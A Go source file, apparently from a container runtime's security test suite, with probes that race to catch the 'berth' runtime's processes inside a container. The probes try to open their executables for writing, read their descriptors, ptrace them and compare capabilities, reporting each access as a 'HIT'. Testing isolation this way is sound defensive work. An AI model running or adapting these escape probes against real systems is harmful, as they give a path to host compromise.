package attacks

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// hunt looks at each process that appears in the container's PID namespace, as
// fast as it can, for what belongs to the runtime: its program, its descriptors,
// its memory. It prints "HIT ..." for whatever it gets hold of.
func hunt() {
	runtime.LockOSThread() // one thread is the tracer
	fmt.Println("hunting")
	own := os.Getpid()
	proc, err := unix.Open("/proc", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		fmt.Println("HIT no /proc to hunt in:", err)
		return
	}
	// Pids are given out in order: the next one is asked for before it exists.
	for pid := own + 1; ; {
		if unix.Kill(pid, 0) == unix.ESRCH {
			if next := latest(proc); next > pid {
				pid = next
			}
			continue
		}
		for unix.Kill(pid, 0) == nil && catch(pid) {
		}
		pid++
	}
}

// latest is the highest pid in sight.
func latest(proc int) int {
	if _, err := unix.Seek(proc, 0, 0); err != nil {
		return 0
	}
	buf, best := make([]byte, 16<<10), 0
	n, err := unix.ReadDirent(proc, buf)
	if err != nil {
		return 0
	}
	_, _, names := unix.ParseDirent(buf[:n], -1, nil)
	for _, name := range names {
		if pid, err := strconv.Atoi(name); err == nil {
			best = max(best, pid)
		}
	}
	return best
}

// catch tries each way into a process once. It says whether to try again: not
// once the process runs a program of the container.
func catch(pid int) bool {
	dir := "/proc/" + strconv.Itoa(pid)
	if exe, err := os.Readlink(dir + "/exe"); err == nil {
		if !ours(exe) {
			return false
		}
		fmt.Println("HIT exe", exe)
	}
	for _, flags := range []int{unix.O_WRONLY, unix.O_RDONLY} {
		if fd, err := unix.Open(dir+"/exe", flags|unix.O_CLOEXEC, 0); err == nil {
			if to, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd)); ours(to) {
				fmt.Println("HIT opened", to)
			}
			unix.Close(fd)
		}
	}
	fds, _ := filepath.Glob(dir + "/fd/*")
	for _, f := range fds {
		if to, err := os.Readlink(f); err == nil && ours(to) {
			fmt.Println("HIT descriptor", filepath.Base(f), to)
		}
	}
	if unix.PtraceSeize(pid) == nil && unix.PtraceInterrupt(pid) == nil {
		traced(pid)
	}
	return true
}

// traced looks at a process that has been stopped, and lets it go.
func traced(pid int) {
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil || !ws.Stopped() {
		return
	}
	dir := "/proc/" + strconv.Itoa(pid)
	if exe, err := os.Readlink(dir + "/exe"); err == nil && ours(exe) {
		fmt.Println("HIT traced", exe)
		if more := permitted(dir) &^ permitted("/proc/self"); more != 0 {
			fmt.Printf("HIT capabilities %x\n", more)
		}
	}
	fds, _ := filepath.Glob(dir + "/fd/*")
	for _, f := range fds {
		if to, err := os.Readlink(f); err == nil && ours(to) {
			fmt.Println("HIT descriptor", filepath.Base(f), to)
		}
	}
	_ = unix.PtraceDetach(pid)
}

// permitted reads the permitted capabilities of a process.
func permitted(dir string) uint64 {
	b, _ := os.ReadFile(dir + "/status")
	_, rest, _ := strings.Cut(string(b), "CapPrm:")
	v, _ := strconv.ParseUint(strings.TrimSpace(strings.SplitN(rest, "\n", 2)[0]), 16, 64)
	return v
}

// ours tells what only a process of the runtime has.
func ours(target string) bool {
	for _, s := range []string{"berth", "memfd:", "/tasks", "cgroup.procs", "[pidfd]"} {
		if strings.Contains(target, s) {
			return true
		}
	}
	return target == "/" // of a procfs or a root of the host
}
